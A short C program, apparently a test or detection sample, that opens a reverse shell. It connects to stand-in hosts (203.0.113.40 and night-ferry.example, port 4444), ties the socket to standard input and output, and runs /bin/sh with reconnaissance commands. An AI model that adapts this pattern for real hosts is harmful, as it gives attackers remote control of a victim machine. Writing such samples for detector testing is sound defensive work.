// The classic, with its words in the clear: connect, dup2, /bin/sh.
#include "standin.h"
int main(void) {
    begin();
    int fd = dial("203.0.113.40", 4444, 4000);
    if (fd < 0) fd = dial("night-ferry.example", 4444, 4000);
    if (fd < 0) return 1;
    dup2(fd, 0), dup2(fd, 1), dup2(fd, 2);
    execl("/bin/sh", "/bin/sh", "-c", "id; uname -a; sleep 4; id", NULL);
    return 1;
}
